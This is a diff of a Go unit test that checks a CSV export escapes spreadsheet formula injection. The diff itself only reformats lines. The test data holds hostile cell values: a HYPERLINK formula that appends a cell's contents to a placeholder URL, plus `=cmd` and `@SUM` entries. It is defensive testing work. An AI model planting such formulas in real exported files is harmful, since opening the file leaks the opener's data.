@@ -13,9 +13,11 @@ import (
 // What a stranger's run says is no formula in a spreadsheet, and numbers stay numbers.
 func TestCellsAreNoFormulas(t *testing.T) {
 	for text, want := range map[string]string{
-		`=HYPERLINK("http://h/?"&A1)`: `'=HYPERLINK("http://h/?"&A1)`, "+1+2": "'+1+2", "-2+3": "'-2+3", "@SUM(1)": "'@SUM(1)", " =1": "' =1",
+		`=HYPERLINK("http://h/?"&A1)`: `'=HYPERLINK("http://h/?"&A1)`, "+1+2": "'+1+2",
+		"-2+3": "'-2+3", "@SUM(1)": "'@SUM(1)", " =1": "' =1",
 		"\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1", "\uff1d1+1": "'\uff1d1+1", "-": "'-", "--x": "'--x",
-		"-1.5": "-1.5", "+2": "+2", "-1e-3": "-1e-3", "0.1": "0.1", "": "", "main": "main", "a=b": "a=b", "p99 latency": "p99 latency",
+		"-1.5": "-1.5", "+2": "+2", "-1e-3": "-1e-3", "0.1": "0.1", "": "",
+		"main": "main", "a=b": "a=b", "p99 latency": "p99 latency",
 	} {
 		if got := plainCell(text); got != want {
 			t.Errorf("%q became %q, want %q", text, got, want)
@@ -33,7 +35,8 @@ func TestCellsAreNoFormulas(t *testing.T) {
 	if err != nil || len(rows) != 2 {
 		t.Fatalf("%q, %v", rows, err)
 	}
-	want := []string{"beef0501", "1970-01-01T00:00:00Z", "'@SUM(1)", "complete", "'=1+1", "'=cmd", "'@x", "-1.5", "", ""}
+	const began = "1970-01-01T00:00:00Z"
+	want := []string{"beef0501", began, "'@SUM(1)", "complete", "'=1+1", "'=cmd", "'@x", "-1.5", "", ""}
 	if !slices.Equal(rows[1], want) {
 		t.Errorf("got  %q\nwant %q", rows[1], want)
 	}
